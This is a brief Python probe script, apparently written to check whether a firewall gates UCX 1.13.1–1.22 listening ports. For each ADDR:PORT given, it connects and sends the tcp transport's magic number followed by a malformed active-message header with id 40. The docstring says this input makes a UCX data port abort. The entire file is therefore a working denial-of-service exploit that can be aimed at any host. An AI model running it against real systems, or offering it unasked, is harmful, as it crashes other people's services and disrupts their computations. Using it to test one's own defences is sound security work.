#!/usr/bin/env python3
"""Knocks on listening sockets with what aborts UCX 1.13.1-1.22 at once
(docs/ucx-front-door.md, section 1): to each ADDR:PORT, a TCP connect
(3 s), then the tcp transport's magic number and an active-message header
of id 40, which its receive handler asserts is its own (tcp_ep.c: a data
port aborts; the connection manager's port keeps it as a stuck
connection, which the receiver's sweep resets). Prints one line per
socket: "ADDR:PORT dropped" (no answer to the SYN: the kernel's gate),
"refused", or "sent" (UCX read it).
Usage: knock.py ADDR:PORT... (IPv6 as [ADDR]:PORT)"""
import socket
import struct
import sys

MAGIC = struct.pack("<Q", 0xCAFEBABE12345678)
BAD_AM = struct.pack("<BI", 40, 0)

for target in sys.argv[1:]:
    host, _, port = target.rpartition(":")
    host = host.strip("[]")
    try:
        s = socket.create_connection((host, int(port)), timeout=3)
    except socket.timeout:
        print(f"{target} dropped", flush=True)
        continue
    except ConnectionRefusedError:
        print(f"{target} refused", flush=True)
        continue
    try:
        s.sendall(MAGIC + BAD_AM)
    except OSError:
        pass
    s.close()
    print(f"{target} sent", flush=True)
